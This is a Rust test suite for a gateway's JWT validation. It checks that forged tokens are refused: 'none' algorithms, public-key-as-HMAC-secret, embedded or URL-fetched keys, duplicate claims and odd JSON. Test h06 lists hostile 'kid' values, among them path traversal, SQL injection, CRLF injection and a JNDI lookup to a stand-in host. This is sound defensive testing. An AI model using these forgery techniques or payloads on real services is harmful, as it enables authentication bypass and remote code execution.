//! H: the structure of a token and its header.

use std::net::TcpListener;

use serde_json::{Value, json};

use super::forge_stage::{NOW, SHAPE, SIGNATURE, Stage, issuer_refused, payload, payload_with};
use crate::accounts::stage::Stage as Accounts;
use crate::common::forge::{decode, encode};
use crate::common::{Issuer, Signer, Usher};

const HEADER: &[&str] = &["token_header_refused"];
const ALGORITHM: &[&str] = &["algorithm_refused"];

#[test]
fn h01_no_algorithm() {
    let stage = Stage::new();
    let good = payload(&json!({}));
    for alg in [
        r#""none""#,
        r#""None""#,
        r#""NONE""#,
        r#""nOnE""#,
        r#""none ""#,
        r#""""#,
        "null",
        "0",
        "[]",
    ] {
        let header = format!(r#"{{"alg":{alg}}}"#);
        let unsigned = format!("{}.{}.", encode(&header), encode(&good));
        let reasons = ["algorithm_refused", "token_malformed"];
        stage.refuses(alg, &unsigned, &reasons);
        stage.refuses(alg, &format!("{unsigned}AA"), &reasons);
        stage.refuses(alg, &stage.signer.seal(&header, &good), &reasons);
    }
    stage.refuses("no alg", &stage.signer.seal("{}", &good), SHAPE);
}

#[test]
fn h02_public_key_as_shared_secret() {
    let stage = Stage::signed_by(Signer::new("RS256", b""), "", "");
    let (pem, der) = (stage.signer.public_pem(), stage.signer.public_der());
    let jwk = stage.signer.jwk("k1");
    let modulus = decode(jwk["n"].as_str().unwrap());
    let secrets: [(&str, Vec<u8>); 11] = [
        ("PEM", pem.clone().into()),
        ("PEM without its last newline", pem.trim_end().into()),
        ("PEM with CRLF", pem.replace('\n', "\r\n").into()),
        ("PEM after a blank", format!(" {pem}").into()),
        ("PEM after a newline", format!("\n{pem}").into()),
        ("DER", der),
        ("the modulus", modulus),
        ("the modulus as text", jwk["n"].as_str().unwrap().into()),
        ("the key set's entry", jwk.to_string().into()),
        ("nothing", Vec::new()),
        ("null", b"null".to_vec()),
    ];
    for (what, secret) in secrets {
        for algorithm in ["HS256", "HS384", "HS512"] {
            let forger = Signer::new(algorithm, &secret);
            stage.refuses(what, &forger.token(payload(&json!({}))), ALGORITHM);
        }
    }
    // Nor can a configuration have it so.
    let told = issuer_refused(
        "name: a, issuer: a, audiences: [x], algorithms: [RS256, HS256], public_key_file: k",
    );
    assert!(told.contains("mixes shared secrets"), "{told}");
    stage.passes("a good one", &stage.good());
}

#[test]
fn h03_algorithm_of_another_family() {
    let good = payload(&json!({}));
    // The same RSA key, the other padding: in the list or not, `alg` is the key's.
    let rsa = Signer::new("RS256", b"");
    let mut entry = rsa.jwk("k1");
    entry["alg"] = "RS256".into();
    let stage = Stage::with_set(rsa, &json!([entry]), "[RS256, PS256, RS512, ES256]");
    let reasons = ["algorithm_refused", "signature_refused"];
    for alg in ["PS256", "RS512", "ES256", "EdDSA", "HS256"] {
        let token = stage.signer.seal(format!(r#"{{"alg":"{alg}"}}"#), &good);
        stage.refuses(alg, &token, &reasons);
    }
    // Truly made so, by the key's owner, and not allowed for that key.
    let pss = Signer::new("RS256", b"");
    let mut entry = pss.jwk("k1");
    entry["alg"] = "RS256".into();
    let only = Stage::with_set(Signer::new("ES256", b""), &json!([entry]), "[RS256, PS256]");
    let token = pss.signing("PS256").token(&good);
    assert_eq!(only.usher.get("/", &token).status, 401);
    assert_eq!(only.app.count(), 0);

    // Another curve than the algorithm's, and a curve that signs nothing.
    let (p256, p384) = (Signer::new("ES256", b""), Signer::new("ES384", b""));
    let x25519 = json!({ "kty": "OKP", "kid": "x", "crv": "X25519", "x": encode([9; 32]) });
    let set = json!([p256.jwk("a"), p384.jwk("b"), x25519]);
    let stage = Stage::with_set(p256, &set, "[ES256, ES384, EdDSA]");
    let seal = |signer: &Signer, header: &str| signer.seal(header, &good);
    stage.refuses(
        "ES256 by P-384",
        &seal(&p384, r#"{"alg":"ES256","kid":"b"}"#),
        ALGORITHM,
    );
    stage.refuses(
        "ES384 by P-256",
        &seal(&stage.signer, r#"{"alg":"ES384","kid":"a"}"#),
        ALGORITHM,
    );
    let edwards = Signer::new("EdDSA", b"");
    let token = seal(&edwards, r#"{"alg":"EdDSA","kid":"x"}"#);
    stage.refuses("EdDSA by X25519", &token, &["key_unknown"]);
    assert_eq!(
        stage.passes(
            "ES384 by P-384",
            &seal(&p384, r#"{"alg":"ES384","kid":"b"}"#)
        ),
        "alice"
    );
}

#[test]
fn h04_key_in_the_token() {
    let stage = Stage::new();
    let forger = Signer::new("ES256", b"");
    let key = forger.jwk("k1");
    for more in [
        json!({ "jwk": key }),
        json!({ "jwk": key, "kid": "k1" }),
        json!({ "jwk": "not even a key" }),
        json!({ "x5c": ["AAAA"] }),
        json!({ "x5c": "not even a list" }),
    ] {
        let mut header = json!({ "alg": "ES256" });
        header
            .as_object_mut()
            .unwrap()
            .extend(more.as_object().unwrap().clone());
        let header = header.to_string();
        stage.refuses(
            &header,
            &forger.seal(&header, payload(&json!({}))),
            SIGNATURE,
        );
        // It is not read: beside a good signature even nonsense changes nothing.
        stage.passes(&header, &stage.signer.seal(&header, payload(&json!({}))));
    }
}

#[test]
fn h05_key_behind_a_url() {
    let stage = Stage::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/keys", listener.local_addr().unwrap());
    let forger = Signer::new("ES256", b"");
    for name in ["jku", "x5u", "iss", "jwks_uri"] {
        let header = json!({ "alg": "ES256", "kid": "new", name: url }).to_string();
        stage.refuses(name, &forger.seal(&header, payload(&json!({}))), SIGNATURE);
    }
    let named = forger.token(payload(&json!({ "iss": url })));
    stage.refuses("an `iss` that is a URL", &named, &["issuer_unknown"]);
    let asked = listener.accept().map(drop).unwrap_err().kind();
    assert_eq!(asked, std::io::ErrorKind::WouldBlock, "{url} was asked");
    stage.passes("a good one", &stage.good());
}

#[test]
fn h06_hostile_kid() {
    let signer = Signer::new("ES256", b"");
    let set = json!([signer.jwk("k1")]);
    let stage = Stage::with_set(signer, &set, "[ES256]");
    let forger = Signer::new("ES256", b"");
    let long = format!("\"{}\"", "k".repeat(4000));
    let unknown = ["key_unknown"];
    let table = [
        (r#""../../../../dev/null""#, &unknown[..]),
        (r#""/proc/self/environ""#, &unknown),
        (r#""' OR '1'='1""#, &unknown),
        (r#""${jndi:ldap://evil.test/a}""#, &unknown),
        (r#""__proto__""#, &unknown),
        (r#""k1\u0000""#, &unknown),
        (r#""k1\r\nX-User-Id: root""#, &unknown),
        (r#""K1""#, &unknown),
        (r#""""#, &unknown),
        (&long, HEADER),
        ("5", HEADER),
        ("null", HEADER),
        (r#"["k1"]"#, HEADER),
        (r#"{"$ne":""}"#, HEADER),
    ];
    for (kid, reasons) in table {
        let header = format!(r#"{{"alg":"ES256","kid":{kid}}}"#);
        stage.refuses(
            kid,
            &stage.signer.seal(&header, payload(&json!({}))),
            reasons,
        );
        stage.refuses(kid, &forger.seal(&header, payload(&json!({}))), reasons);
    }
    let huge = format!(r#"{{"alg":"ES256","kid":"{}"}}"#, "k".repeat(64 * 1024));
    let huge = stage.signer.seal(huge, payload(&json!({})));
    let reply = stage.usher.get("/huge", &huge);
    assert_eq!(reply.status, 431, "a head has a bound too");
    // None of it is in the log, and each request is one line.
    let text = stage.usher.text();
    for word in ["jndi", "__proto__", "dev/null", "OR '1'", "root"] {
        assert!(!text.contains(word), "{word} is in the log");
    }
    stage.passes("a good one", &stage.good());
}

#[test]
fn h07_missing_unknown_or_ambiguous_kid() {
    let signers: Vec<_> = (0..6).map(|_| Signer::new("ES256", b"")).collect();
    let entries: Vec<_> = signers
        .iter()
        .zip(0..)
        .map(|(key, n)| key.jwk(&format!("k{n}")))
        .collect();
    let good = payload(&json!({}));
    let named =
        |n: usize, kid: &str| signers[n].seal(format!(r#"{{"alg":"ES256","kid":"{kid}"}}"#), &good);
    let stage = Stage::with_set(Signer::new("ES256", b""), &json!(entries), "[ES256]");
    let get = |token: &str| stage.usher.get("/", token).status;
    // Without a name the keys are tried, four at most; with one it is that key and no other.
    assert_eq!(
        [0, 1, 2, 3].map(|n| get(&signers[n].token(&good))),
        [200; 4]
    );
    assert_eq!([4, 5].map(|n| get(&signers[n].token(&good))), [401; 2]);
    assert_eq!(
        (0..6)
            .map(|n| get(&named(n, &format!("k{n}"))))
            .collect::<Vec<_>>(),
        [200; 6]
    );
    assert_eq!(
        (0..5).map(|n| get(&named(n, "k5"))).collect::<Vec<_>>(),
        [401; 5]
    );
    assert_eq!(get(&named(0, "other")), 401);
    assert_eq!(stage.app.count(), 10);

    // Two keys of one name: neither is meant.
    let twins = json!([
        signers[0].jwk("k"),
        signers[1].jwk("k"),
        signers[2].jwk("other")
    ]);
    let stage = Stage::with_set(Signer::new("ES256", b""), &twins, "[ES256]");
    for n in [0, 1] {
        assert_eq!(stage.usher.get("/", &named(n, "k")).status, 401);
    }
    assert_eq!(stage.usher.get("/", &named(2, "other")).status, 200);
    assert_eq!(stage.app.count(), 1);
    assert!(stage.usher.get("/", &named(2, "other")).status == 200);
}

#[test]
fn h08_critical_extensions() {
    let stage = Stage::new();
    for rest in [
        r#""crit":["exp"]"#,
        r#""crit":["exp"],"exp":1900000000"#,
        r#""crit":["x"],"x":1"#,
        r#""crit":[]"#,
        r#""crit":"exp""#,
        r#""crit":null"#,
        r#""crit":{}"#,
        r#""crit":["b64"],"b64":false"#,
        r#""b64":false"#,
    ] {
        let header = format!(r#"{{"alg":"ES256",{rest}}}"#);
        stage.refuses(
            rest,
            &stage.signer.seal(&header, payload(&json!({}))),
            HEADER,
        );
    }
}

#[test]
fn h09_header_names_twice() {
    let stage = Stage::new();
    for header in [
        r#"{"alg":"none","alg":"ES256"}"#,
        r#"{"alg":"ES256","alg":"none"}"#,
        r#"{"alg":"ES256","alg":"ES256"}"#,
        r#"{"alg":"ES256","\u0061lg":"ES256"}"#,
        r#"{"alg":"ES256","kid":"a","kid":"b"}"#,
        r#"{"alg":"ES256","x":1,"x":2}"#,
        r#"{"alg":"ES256","x":{"y":1,"y":2}}"#,
    ] {
        stage.refuses(
            header,
            &stage.signer.seal(header, payload(&json!({}))),
            SHAPE,
        );
    }
}

#[test]
fn h10_claim_names_twice() {
    let stage = Stage::new();
    let good = payload(&json!({}));
    let good = good.strip_suffix('}').unwrap();
    for more in [
        r#""sub":"root""#,
        r#""s\u0075b":"root""#,
        r#""exp":1900000000"#,
        r#""role":"user","role":"admin""#,
        r#""role":"user","\u0072ole":"admin""#,
        r#""x":{"role":1,"role":2}"#,
        r#""x":[[{"role":1,"role":2}]]"#,
    ] {
        stage.refuses(more, &stage.signer.token(format!("{good},{more}}}")), SHAPE);
    }
}

#[test]
fn h11_payload_that_is_no_object() {
    let stage = Stage::new();
    for payload in [
        // In the order in which libraries declare their claims.
        r#"[1900000000,0,"alice","https://idp.test/","app"]"#,
        r#"["app",1900000000,"https://idp.test/",0,"alice"]"#,
        r#"[{"sub":"alice"}]"#,
        r#""{\"sub\":\"alice\"}""#,
        "1900000000",
        "null",
        "true",
        "[]",
        "",
        " ",
    ] {
        stage.refuses(payload, &stage.signer.token(payload), SHAPE);
    }
}

#[test]
fn h12_odd_json() {
    let stage = Stage::with("", "limits: { token_bytes: 24KiB }\n");
    let good = payload(&json!({}));
    let deep = format!(
        r#"{},"x":{}}}"#,
        good.strip_suffix('}').unwrap(),
        "[".repeat(8000)
    );
    let closed = format!(
        r#"{},"x":{}{}}}"#,
        good.strip_suffix('}').unwrap(),
        "[".repeat(4000),
        "]".repeat(4000)
    );
    let table: Vec<Vec<u8>> = vec![
        format!("\u{feff}{good}").into(),
        format!("{good}x").into(),
        format!("{good}{good}").into(),
        format!("{good}\0").into(),
        good.replace('"', "'").into(),
        payload_with("x", "1,").into(),
        payload_with("x", r#""\ud800""#).into(),
        payload_with("x", r#""\x41""#).into(),
        payload_with("x", "\"a\tb\"").into(),
        payload_with("x", "NaN").into(),
        payload_with("x", "01").into(),
        payload_with("x", "1e999").into(),
        payload_with("x", "/* */ 1").into(),
        [
            good.as_bytes().strip_suffix(b"}").unwrap(),
            b",\"x\":\"\xff\"}",
        ]
        .concat(),
        [b"\xff\xfe", good.as_bytes()].concat(),
        deep.into(),
        closed.into(),
    ];
    for text in table {
        let what = String::from_utf8_lossy(&text[..text.len().min(200)]).into_owned();
        stage.refuses(&what, &stage.signer.token(&text), SHAPE);
        stage.refuses(&what, &stage.signer.seal(&text, &good), SHAPE);
    }
}

/// As [`h12_odd_json`], with every file of JSONTestSuite as the value of a claim, and of a member of the
/// header, in a token that is good but for that: a lenient reader would let each of them in.
#[test]
fn h12_odd_json_of_the_test_suite() {
    let Some(folder) = super::vectors::folder("jsontestsuite/test_parsing") else {
        return;
    };
    let stage = Stage::new();
    let good = payload(&json!({}));
    let within = |object: &str, text: &[u8]| {
        let open = object.strip_suffix('}').unwrap();
        [open.as_bytes(), b",\"x\":", text, b"}"].concat()
    };
    let header = r#"{"alg":"ES256"}"#;
    let (mut bad, mut fine, mut twice, mut long) = (Vec::new(), Vec::new(), Vec::new(), 0);
    for entry in std::fs::read_dir(folder).unwrap() {
        let entry = entry.unwrap();
        let name = entry.file_name().into_string().unwrap();
        let text = std::fs::read(entry.path()).unwrap();
        let list = match name.split('_').next().unwrap() {
            // Two files, of 100 kB and 250 kB, are longer than any head; the other tests have them.
            "n" if text.len() > 5_000 => {
                long += 1;
                continue;
            }
            "n" => &mut bad,
            // The suite calls equal names valid JSON; usher does not.
            "y" if name.starts_with("y_object_duplicated_key") => &mut twice,
            "y" => &mut fine,
            _ => continue,
        };
        list.extend([
            stage.signer.token(within(&good, &text)),
            stage.signer.seal(within(header, &text), &good),
        ]);
    }
    assert_eq!(
        (bad.len(), fine.len(), twice.len(), long),
        (2 * 186, 2 * 93, 2 * 2, 2)
    );
    // What is JSON passes there, whatever it says: so nothing but that decides.
    let mut client = stage.usher.connect();
    for token in &fine {
        client.send(format!(
            "GET /fine HTTP/1.1\r\nHost: app.test\r\nAuthorization: Bearer {token}\r\n\r\n"
        ));
        assert_eq!(client.reply().unwrap().status, 200, "{token}");
    }
    let refused = bad.len() + twice.len();
    assert_eq!(stage.refuses_all(bad.into_iter().chain(twice)), refused);
    let malformed =
        "usher_requests_total{route=\"default\",outcome=\"denied\",reason=\"token_malformed\"}";
    assert_eq!(stage.usher.metric(malformed), refused as f64);
    stage.passes("a good one", &stage.good());
}

#[test]
fn h13_two_spellings_of_base64() {
    let stage = Stage::new();
    let good = stage.token(&json!({}));
    let parts: Vec<_> = good.split('.').collect();
    let (header, claims, made) = (parts[0], parts[1], parts[2]);
    // The last character of 64 bytes has two bits that nobody reads: they must be zero.
    let next = char::from(made.as_bytes()[made.len() - 1] + 1);
    for (what, token) in [
        ("padding", format!("{good}==")),
        ("padding within", format!("{header}=.{claims}.{made}")),
        (
            "bits that nobody reads",
            format!("{}{next}", &good[..good.len() - 1]),
        ),
        (
            "the other alphabet",
            format!("{header}.{claims}.+/{}", &made[2..]),
        ),
        ("a blank", format!("{header}.{claims} .{made}")),
        ("a tab", format!("{header}.{claims}.{made}\tx")),
        (
            "a percent sign",
            format!("{header}.{claims}.%41{}", &made[1..]),
        ),
        ("a tilde", format!("{header}.{claims}.~{}", &made[1..])),
    ] {
        stage.refuses(what, &token, SHAPE);
    }
    // A line end ends the field, and with it the request.
    let folded = format!("Authorization: Bearer {header}.\r\n {claims}.{made}\r\n");
    let reply = stage
        .usher
        .raw(format!("GET / HTTP/1.1\r\nHost: app.test\r\n{folded}\r\n"));
    assert_eq!(reply.status, 400);
    stage.passes("the one spelling", &good);
}

#[test]
fn h14_other_serialisations() {
    let stage = Stage::new();
    let good = stage.token(&json!({}));
    let parts: Vec<_> = good.split('.').collect();
    let (header, claims, made) = (parts[0], parts[1], parts[2]);
    let flat = json!({ "protected": header, "payload": claims, "signature": made }).to_string();
    let general =
        json!({ "payload": claims, "signatures": [{ "protected": header, "signature": made }] });
    for (what, token) in [
        ("one part", header.to_owned()),
        ("two parts", format!("{header}.{claims}")),
        ("an empty signature", format!("{header}.{claims}.")),
        ("an empty payload", format!("{header}..{made}")),
        ("four parts", format!("{good}.{made}")),
        (
            "five parts, as if encrypted",
            format!("{header}.{made}.{made}.{claims}.{made}"),
        ),
        ("six parts", format!("{good}.{good}")),
        ("JSON, flat", flat.replace(' ', "")),
        ("JSON, general", general.to_string()),
        ("dots alone", ".".repeat(5000)),
    ] {
        stage.refuses(what, &token, SHAPE);
    }
    let bomb = stage
        .signer
        .seal(r#"{"alg":"ES256","zip":"DEF"}"#, [0x78; 4000]);
    stage.refuses("compressed", &bomb, HEADER);
    let sealed = stage
        .signer
        .seal(r#"{"alg":"ES256","enc":"A256GCM"}"#, payload(&json!({})));
    stage.refuses("encrypted in three parts", &sealed, HEADER);
}

#[test]
fn h15_token_in_a_token() {
    let stage = Stage::new();
    let inner = stage.token(&json!({}));
    for cty in ["JWT", "jwt", "application/JWT"] {
        let header = format!(r#"{{"alg":"ES256","cty":"{cty}"}}"#);
        stage.refuses(cty, &stage.signer.seal(&header, &inner), HEADER);
        stage.refuses(
            cty,
            &stage.signer.seal(&header, payload(&json!({}))),
            HEADER,
        );
    }
    stage.refuses("without saying so", &stage.signer.token(&inner), SHAPE);
    stage.refuses(
        "as a string",
        &stage.signer.token(format!("\"{inner}\"")),
        SHAPE,
    );
}

#[test]
fn h16_scheme() {
    let stage = Stage::new();
    let good = stage.token(&json!({}));
    let table = [
        (format!("Bearer  {good}"), SHAPE),
        (format!("Bearer\t{good}"), SHAPE),
        (format!("Bearer {good} x"), SHAPE),
        (format!("Bearer {good},{good}"), SHAPE),
        (format!("Bearer, {good}"), SHAPE),
        (format!("Bearer=\"{good}\""), SHAPE),
        ("Bearer".to_owned(), SHAPE),
        ("Bearer x".to_owned(), SHAPE),
        (format!("Bearer: {good}"), SHAPE),
        (format!("BearerX {good}"), &["scheme_refused"][..]),
        (format!("Bear {good}"), &["scheme_refused"]),
        (format!("JWT {good}"), &["scheme_refused"]),
        ("Basic YWxpY2U6cHc=".to_owned(), &["scheme_refused"]),
        (good.clone(), &["scheme_refused"]),
        (String::new(), &["token_missing"]),
    ];
    for (value, reasons) in table {
        stage.refuses_lines(&value, format!("Authorization: {value}\r\n"), 401, reasons);
    }
    for scheme in ["bearer", "BEARER", "bEARER"] {
        let reply = stage.usher.raw(format!(
            "GET / HTTP/1.1\r\nHost: app.test\r\nAuthorization: {scheme} {good}\r\n\r\n"
        ));
        assert_eq!(reply.status, 200, "{scheme}");
    }
    stage.passes("a good one", &stage.good());
}

#[test]
fn h17_two_credentials() {
    let more = "tokens: { from: [authorization, { cookie: t }, { query: access_token }] }\n";
    let stage = Stage::with("", more);
    let (good, other) = (
        stage.token(&json!({})),
        stage.token(&json!({ "sub": "bob" })),
    );
    let twice = &["token_twice"][..];
    for second in [&good, &other] {
        let lines = format!("Authorization: Bearer {good}\r\nAuthorization: Bearer {second}\r\n");
        stage.refuses_lines("two lines", lines, 400, twice);
        let lines = format!("Cookie: t={good}; t={second}\r\n");
        stage.refuses_lines("a cookie twice", lines, 400, twice);
        let lines = format!("Cookie: t={good}\r\nCookie: t={second}\r\n");
        stage.refuses_lines("two cookie lines", lines, 400, twice);
        let target = format!("/?access_token={good}&access_token={second}");
        assert_eq!(stage.usher.get_as_nobody(&target).status, 400);
        // Several places: the first that is configured decides, good or bad, and all are taken out.
        let lines = format!("Cookie: a=b; t={second}\r\n");
        let reply = stage
            .usher
            .get_with(&format!("/x?access_token={second}"), &good, &lines);
        assert_eq!(reply.status, 200);
        let received = stage.app.last();
        assert_eq!(received.header("x-user-id"), Some("alice"));
        assert_eq!(
            (received.target(), received.header("cookie")),
            ("/x", Some("a=b"))
        );
        let lines = format!("Authorization: Bearer junk\r\nCookie: t={second}\r\n");
        stage.refuses_lines("a bad one before a good one", lines, 401, SHAPE);
    }
}

#[test]
fn h18_token_in_the_query() {
    let stage = Stage::new();
    let token = stage.token(&json!({}));
    let before = stage.app.count();
    assert_eq!(
        stage
            .usher
            .get_as_nobody(&format!("/?access_token={token}"))
            .status,
        401
    );
    assert_eq!(stage.app.count(), before, "by default nobody looks there");
    let stage = Stage::with("", "tokens: { from: [{ query: access_token }] }\n");
    let token = stage.token(&json!({}));
    let reply = stage
        .usher
        .get_as_nobody(&format!("/q?a=1&access%5Ftoken={token}&b=2"));
    assert_eq!(reply.status, 200);
    assert_eq!(stage.app.last().target(), "/q?a=1&b=2");
    assert_eq!(stage.usher.line("/q")["status"], 200);
    let made = token.rsplit('.').next().unwrap();
    assert!(!stage.usher.text().contains(made), "it is in the log");
    let again = format!("/again?access_token={token}");
    assert!(stage.usher.get_as_nobody(&again).status == 200);
}

#[test]
fn h19_tokens_of_another_kind() {
    let stage = Stage::new();
    for typ in [
        r#""rt+jwt""#,
        r#""id+jwt""#,
        r#""logout+jwt""#,
        r#""dpop+jwt""#,
        r#""secevent+jwt""#,
        r#""entity-statement+jwt""#,
        r#""JOSE""#,
        r#""JWT ""#,
        r#""""#,
        "null",
        r#"["JWT"]"#,
    ] {
        let header = format!(r#"{{"alg":"ES256","typ":{typ}}}"#);
        stage.refuses(
            typ,
            &stage.signer.seal(&header, payload(&json!({}))),
            HEADER,
        );
    }
    let id_token = payload(&json!({ "aud": "the-web-client", "nonce": "n", "at_hash": "h" }));
    stage.refuses(
        "an ID token",
        &stage.signer.token(id_token),
        &["audience_refused"],
    );
    let other = payload(&json!({ "aud": "another-service" }));
    stage.refuses(
        "another service's token",
        &stage.signer.token(other),
        &["audience_refused"],
    );

    // usher's own refresh tokens, on a route that takes its access tokens.
    let accounts = Accounts::sqlite();
    let routes = "routes: [{ path: /feed/**, projects: acme }]\n";
    let usher = accounts.usher_with("", "", routes);
    let ada = accounts.login(&usher, "ada", json!({}));
    assert_eq!(usher.get("/feed/1", &ada.refresh).status, 401);
    assert_eq!(accounts.app.count(), 0);
    assert_eq!(usher.get("/feed/1", &ada.access).status, 200);
}

#[test]
fn h20_parts_of_a_token() {
    let stage = Stage::new();
    let token = stage.token(&json!({}));
    let prefixes = (1..token.len()).map(|end| token[..end].to_owned());
    assert_eq!(stage.refuses_all(prefixes), token.len() - 1);
    let suffixes = (1..token.len()).map(|start| token[start..].to_owned());
    assert_eq!(stage.refuses_all(suffixes), token.len() - 1);
    // And every other character in every place.
    let flipped = (0..token.len())
        .filter(|at| token.as_bytes()[*at] != b'.')
        .map(|at| {
            let other = if token.as_bytes()[at] == b'A' {
                "B"
            } else {
                "A"
            };
            format!("{}{other}{}", &token[..at], &token[at + 1..])
        });
    assert_eq!(stage.refuses_all(flipped), token.len() - 2);
    stage.passes("the whole", &token);
}

#[test]
fn h21_partial_success() {
    let stage = Stage::new();
    let forger = Signer::new("ES256", b"");
    let expired = json!({ "exp": NOW - 1, "sub": "root" });
    // What a forger wrote is not looked at: the signature is what is wrong.
    let line = stage.refuses(
        "expired and forged",
        &forger.token(payload(&expired)),
        SIGNATURE,
    );
    assert!(!line.to_string().contains("root"), "{line}");
    let none = forger.token(payload(&json!({ "exp": null, "aud": "x" })));
    stage.refuses("no end, and forged", &none, SIGNATURE);
    stage.refuses("expired", &stage.token(&expired), &["token_expired"]);
    // The same on an optional route: a bad token is not nobody.
    let (app, issuer) = (crate::common::App::start(), Issuer::new());
    let routes = "routes: [{ path: /**, access: optional }]\n";
    let usher = Usher::start(&app, &issuer, routes);
    let old = issuer.token_with("alice", json!({ "exp": 1 }));
    assert_eq!(usher.get("/", &old).status, 401);
    assert_eq!(usher.get("/", &Issuer::new().token("alice")).status, 401);
    assert_eq!(app.count(), 0);
    assert_eq!(usher.get_as_nobody("/").status, 200);
    assert_eq!(app.last().header("x-user-id").map(Value::from), None);
    usher.serves(&issuer.token("alice"));
}
